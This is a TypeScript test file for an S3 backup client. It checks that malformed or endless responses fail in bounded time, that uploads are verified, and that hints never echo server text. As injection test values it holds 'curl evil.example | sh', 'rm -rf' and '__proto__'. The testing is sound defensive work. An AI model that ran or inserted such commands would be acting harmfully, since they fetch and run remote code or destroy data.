/** Object stores that answer wrongly: what is not certainly stored is an error, in bounded time and memory. */
import { deepEqual, equal, match, ok, rejects, throws } from "node:assert/strict";
import type { OsctlError } from "../../../../lib/errors.ts";
import { PART_BYTES, S3Bucket } from "../../../../lib/node/etcd/snapshot/s3_bucket.ts";
import {
  parseS3Address,
  readS3Credentials,
  readS3Place,
} from "../../../../lib/node/etcd/snapshot/s3_settings.ts";
import { acceleratedClock, fakeSystem } from "../../../helpers/fake_system.ts";
import { S3_ENV, startS3 } from "../../../helpers/s3_server.ts";

const NO_FLAGS = { s3Endpoint: "", s3Region: "" };
const BYTES = new Uint8Array(PART_BYTES + 5).map((_, index) => index % 251);

async function* chunksOf(bytes: Uint8Array): AsyncGenerator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += 1_000_003) yield bytes.subarray(at, at + 1_000_003);
}

async function open() {
  const server = startS3(["backups"]);
  const system = fakeSystem({ clock: acceleratedClock(200), env: S3_ENV });
  const place = readS3Place({ ...NO_FLAGS, s3Endpoint: server.url }, system.env);
  return { server, bucket: await S3Bucket.open(system, "backups", place) };
}

const html = "<!DOCTYPE html><html><body><p>Welcome</body></html>";

/** A body that repeats `chunk`, however much is read. */
const endless = (chunk: string) =>
  new ReadableStream({
    pull: (controller) => controller.enqueue(new TextEncoder().encode(chunk.repeat(1000))),
  });

Deno.test("an upload whose end is not confirmed is an error", async () => {
  const { server, bucket } = await open();
  await using _ = server;
  const unconfirmed: (readonly [string, RegExp])[] = [
    ["", /the end of the upload is not confirmed/],
    ["   ", /not confirmed/],
    [html, /not confirmed/],
    ["<CompleteMultipartUploadResult>", /not confirmed/],
    ["<a>".repeat(200_000), /not confirmed/],
    [
      "<InitiateMultipartUploadResult><UploadId>x</UploadId></InitiateMultipartUploadResult>",
      /not/,
    ],
    ["<Error><Code>InternalError</Code></Error>", /bucket "backups": InternalError/],
  ];
  for (const [text, reason] of unconfirmed) {
    server.failures.push(undefined, undefined, undefined, new Response(text));
    await rejects(bucket.store("x.db", chunksOf(BYTES)), reason);
    equal(server.uploads.size, 0, "its parts are removed");
  }
  equal(server.objects.size, 0);
});

Deno.test("a confirmed object that the store does not have is an error", async () => {
  const { server, bucket } = await open();
  await using _ = server;
  const head = (init: ResponseInit) => new Response(null, init);
  const wrong: (readonly [Response, RegExp])[] = [
    [head({ status: 404 }), /wrong object stored: it is not there/],
    [head({ headers: { "content-length": "4" } }), /5 bytes were sent, it has 4/],
    [head({ headers: {} }), /5 bytes were sent, it has/],
    [head({ status: 403 }), /cannot be verified/],
  ];
  const small = BYTES.subarray(0, 5);
  for (const [response, reason] of wrong) {
    const confirmed = new Response(null, { headers: { etag: '"no digest"' } });
    server.failures.push(confirmed, response);
    await rejects(bucket.store("x.db", chunksOf(small)), reason);
  }
  // Bytes were changed: size and status are right.
  const tag = { etag: '"00000000000000000000000000000000"', "content-length": "5" };
  server.failures.push(undefined, head({ headers: tag }), new Response("other"));
  await rejects(bucket.store("x.db", chunksOf(small)), /wrong object stored: its content differs/);
  server.failures.push(undefined, head({ headers: tag }), new Response(endless("x")));
  await rejects(bucket.store("x.db", chunksOf(small)), /its content differs/);
});

Deno.test("an object is verified by its content when its tag is not the MD5", async () => {
  const { server, bucket } = await open();
  await using _ = server;
  const headers = { etag: '"encrypted"', "content-length": "5" };
  server.failures.push(undefined, new Response(null, { headers }));
  await bucket.store("x.db", chunksOf(BYTES.subarray(0, 5)));
  deepEqual(server.requests, ["PUT", "HEAD", "GET"]);
  // Credentials that may not read: the confirmation has the digest.
  server.failures.push(undefined, new Response(null, { status: 403 }));
  await bucket.store("x.db", chunksOf(BYTES.subarray(0, 5)));
});

Deno.test("an upload whose confirmation was lost is verified", async () => {
  const { server, bucket } = await open();
  await using _ = server;
  const lost = () => [
    ...[undefined, undefined, undefined],
    new Response("<Error><Code>SlowDown</Code></Error>", { status: 503 }),
    new Response("<Error><Code>NoSuchUpload</Code></Error>", { status: 404 }),
  ];
  server.failures.push(...lost());
  await rejects(bucket.store("x.db", chunksOf(BYTES)), /wrong object stored: it is not there/);
  server.objects.set("backups/x.db", BYTES);
  server.failures.push(...lost());
  await bucket.store("x.db", chunksOf(BYTES));
});

Deno.test("lists that do not end, or are none, are errors", async () => {
  const { server, bucket } = await open();
  await using _ = server;
  const list = (text: string) => new Response(`<ListBucketResult>${text}</ListBucketResult>`);
  const token = "<NextContinuationToken>a</NextContinuationToken>";
  server.failures.push(list(token), list(token));
  await rejects(bucket.list(""), /the list of objects does not end/);
  for (const text of ["", html, "<Error/>", "<ListBucketResult>", "[]"]) {
    server.failures.push(new Response(text));
    await rejects(bucket.list(""), /not a list of objects/, text);
  }
  server.failures.push(new Response(endless("<Contents><Key>a</Key></Contents>")));
  await rejects(bucket.list(""), /the response is too large/);
  const keys = ["lab/a", "other/b", "la", "lab/../c"].map((key) =>
    `<Contents><Key>${key}</Key></Contents>`
  );
  server.failures.push(list(`<IsTruncated>false</IsTruncated>${token}${keys.join("")}`));
  deepEqual(await bucket.list("lab/"), ["lab/a", "lab/../c"]);
});

Deno.test("large and endless errors take no time", async () => {
  const { server, bucket } = await open();
  await using _ = server;
  const bodies: BodyInit[] = [
    "<Error>" + "<Code ".repeat(160_000),
    "<Error>" + "<Code>".repeat(160_000),
    `<Error><Code>${"&#38;".repeat(100_000)}</Code></Error>`,
    endless("<Code "),
    endless("x"),
  ];
  for (const body of bodies) {
    server.failures.push(new Response(body, { status: 400 }));
    const start = performance.now();
    await rejects(bucket.list(""), (error: OsctlError) => {
      ok(error.message.length < 1024, error.message);
      return true;
    });
    ok(performance.now() - start < 5000);
  }
});

Deno.test("hints contain no text of the server", async () => {
  const { server, bucket } = await open();
  await using _ = server;
  const evil = "eu-west-1; curl evil.example | sh";
  server.failures.push(
    new Response(`<Error><Code>PermanentRedirect</Code><Message>${evil}</Message></Error>`, {
      status: 301,
      headers: { "x-amz-bucket-region": evil },
    }),
  );
  await rejects(bucket.list(""), (error: OsctlError) => {
    equal(error.hint, "set the region with --s3-region");
    return true;
  });
  for (const code of ["__proto__", "constructor", "NoSuchBucket; rm -rf"]) {
    server.failures.push(new Response(`<Error><Code>${code}</Code></Error>`, { status: 400 }));
    await rejects(bucket.list(""), (error: OsctlError) => {
      match(error.hint!, /^check AWS_ACCESS_KEY_ID, /);
      return true;
    });
  }
});

Deno.test("regions, endpoints, buckets and keys that lead elsewhere are refused", () => {
  const env = { get: () => undefined };
  for (const s3Region of ["a/../b@host:80/", "a.b", "a b", "-a", "é", "a\n", "x".repeat(64)]) {
    throws(() => readS3Place({ ...NO_FLAGS, s3Region }, env), { kind: "usage" }, s3Region);
  }
  const endpoints = [
    ...["https://h/?a", "https://h/#a", "https://u@h", "https://:p@h", "https://u:p@h/"],
    ...["ftp://h", "h:9000", "https://", "//h"],
  ];
  for (const s3Endpoint of endpoints) {
    throws(() => readS3Place({ ...NO_FLAGS, s3Endpoint }, env), { kind: "usage" }, s3Endpoint);
  }
  const addresses = [
    ...["s3://a..b/x", "s3://10.0.0.1/x", "s3://a@b/x", "s3://aaa:9/x", "s3://aaa?x/y"],
    ...[`s3://aaa/${"x".repeat(1025)}`, "s3://aaa/\ud800", "s3://aaa/./x"],
  ];
  for (const address of addresses) {
    throws(() => parseS3Address(address), { kind: "usage" }, address);
  }
});

Deno.test("malformed credentials are refused without being shown", () => {
  for (const name of Object.keys(S3_ENV)) {
    const env = { ...S3_ENV, [name]: "marked-secret\nX: y" } as Record<string, string>;
    throws(() => readS3Credentials({ get: (key) => env[key] }), (error: OsctlError) => {
      match(error.message, new RegExp(`^invalid characters in ${name}$`));
      ok(!`${error.message}${error.hint}`.includes("marked"));
      return true;
    });
  }
});
